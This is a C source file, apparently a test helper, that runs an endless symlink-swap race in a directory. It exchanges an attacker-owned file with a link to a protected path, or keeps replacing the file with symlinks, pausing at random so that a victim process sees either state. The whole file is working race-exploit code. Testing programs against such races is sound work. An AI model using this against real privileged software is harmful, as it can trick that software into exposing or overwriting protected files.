/* attacker DIR exchange|replace
 *
 * In DIR there are "target", a file of the attacker's, and "link", a link to where the attacker may
 * not write. They change places for ever, in one call each ("exchange"), or new ones are moved over
 * "target" in turn ("replace"). Says a line when it has begun.
 *
 * Between changes it lets some time go by, another each time: whoever looks finds either state, for
 * long enough to be taken in, and at every phase.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void linger(void)
{
    static uint64_t state = 88172645463325252;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    /* Mostly none at all; now and then enough for a whole transaction. */
    long nanoseconds = state % 8 ? 0 : (long)((state >> 8) % 1000000);
    struct timespec from, now;
    clock_gettime(CLOCK_MONOTONIC, &from);
    do
        clock_gettime(CLOCK_MONOTONIC, &now);
    while ((now.tv_sec - from.tv_sec) * 1000000000 + now.tv_nsec - from.tv_nsec < nanoseconds);
}

static void replace(const char *secret)
{
    /* Either may fail: the victim's transaction is not in the way, but it may hold "target". */
    int fd = open("new", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        (void)!write(fd, "0\n", 2);
        close(fd);
    }
    (void)!rename("new", "target");
    linger();
    (void)!symlink(secret, "other");
    (void)!rename("other", "target");
}

int main(int argc, char **argv)
{
    if (argc != 3 || chdir(argv[1]) != 0)
        return 2;
    if (getuid() == 0)
        return 2;
    char secret[4096] = "";
    if (readlink("link", secret, sizeof secret - 1) < 0)
        return 2;
    printf("attacking\n");
    fflush(stdout);
    if (strcmp(argv[2], "replace") == 0)
        for (;;) {
            replace(secret);
            linger();
        }
    for (;;) {
        if (renameat2(AT_FDCWD, "target", AT_FDCWD, "link", RENAME_EXCHANGE) != 0) {
            /* "target" and "link" are always there. */
            perror("attacker: one of the names was gone");
            return 3;
        }
        linger();
    }
}
